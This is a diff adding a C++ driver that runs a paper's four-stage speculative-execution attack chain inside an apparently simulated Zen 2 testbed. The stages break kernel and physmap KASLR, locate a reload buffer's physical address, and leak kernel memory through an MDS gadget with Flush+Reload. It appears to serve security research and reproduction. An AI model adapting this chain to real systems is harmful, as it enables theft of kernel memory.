@@ -1,0 +1,84 @@
+/**
+ * @file
+ * The paper's complete §7 attack chain, end to end, with every stage
+ * consuming only what the previous stage *discovered* — no ground truth
+ * flows into the attack:
+ *
+ *   stage 1 (§7.1): derandomize the kernel image base with P1,
+ *   stage 2 (§7.2): derandomize the physmap base with P2,
+ *   stage 3 (§7.4): find the physical address of the attacker's reload
+ *                   buffer through the discovered physmap,
+ *   stage 4 (§7.4): leak kernel memory through a single-load MDS gadget
+ *                   with P3 nested speculation and Flush+Reload on the
+ *                   (discovered) physmap alias of the reload buffer.
+ *
+ * Ground truth is consulted only at the end, to grade the leak.
+ */
+
+#include "attack/exploits.hpp"
+
+#include <cstdio>
+
+using namespace phantom;
+using namespace phantom::attack;
+
+int
+main()
+{
+    auto cfg = cpu::zen2();
+    Testbed bed(cfg, kDefaultPhysBytes, /*seed=*/0xc0ffee);
+    std::printf("victim: %s, kernel booted with KASLR\n",
+                cfg.model.c_str());
+
+    // Stage 0: attacker maps its reload buffer (a 2 MiB huge page).
+    constexpr VAddr kReloadVa = 0x0000000200000000ull;
+    bed.process.mapHugeData(kReloadVa, /*random_placement=*/true);
+
+    // ---- Stage 1: kernel image base --------------------------------------
+    KaslrOptions kaslr_options;
+    kaslr_options.scoreSets = 16;
+    KernelImageKaslrBreak stage1(bed, kaslr_options);
+    DerandResult image = stage1.run();
+    std::printf("[1] image base    = 0x%llx  (%.4f sim s)  %s\n",
+                static_cast<unsigned long long>(image.guessed),
+                image.seconds, image.success ? "ok" : "WRONG");
+    if (!image.guessed)
+        return 1;
+
+    // ---- Stage 2: physmap base --------------------------------------------
+    PhysmapKaslrBreak stage2(bed, image.guessed);
+    DerandResult physmap = stage2.run();
+    std::printf("[2] physmap base  = 0x%llx  (%.4f sim s)  %s\n",
+                static_cast<unsigned long long>(physmap.guessed),
+                physmap.seconds, physmap.success ? "ok" : "WRONG");
+    if (!physmap.guessed)
+        return 1;
+
+    // ---- Stage 3: physical address of the reload buffer ---------------------
+    PhysAddrFinder stage3(bed, image.guessed, physmap.guessed, kReloadVa);
+    DerandResult reload_pa = stage3.run();
+    std::printf("[3] reload buf PA = 0x%llx  (%.4f sim s)  %s\n",
+                static_cast<unsigned long long>(reload_pa.guessed),
+                reload_pa.seconds, reload_pa.success ? "ok" : "WRONG");
+
+    // ---- Stage 4: leak kernel memory -----------------------------------------
+    // The reload buffer's kernel alias is computed purely from stage 2+3
+    // results.
+    VAddr reload_kva = physmap.guessed + reload_pa.guessed;
+    MdsLeakOptions options;
+    options.bytes = 256;
+    MdsGadgetLeak stage4(bed, options, kReloadVa, reload_kva);
+    MdsLeakResult leak = stage4.run();
+    std::printf("[4] leaked %llu bytes of kernel memory: accuracy "
+                "%.1f%%, %llu without signal, %.0f B/s\n",
+                static_cast<unsigned long long>(leak.bytes),
+                leak.accuracy * 100.0,
+                static_cast<unsigned long long>(leak.noSignal),
+                leak.bytesPerSecond);
+
+    bool ok = image.success && physmap.success && reload_pa.success &&
+              leak.accuracy == 1.0;
+    std::printf("%s\n", ok ? "full chain succeeded."
+                           : "chain incomplete.");
+    return ok ? 0 : 1;
+}
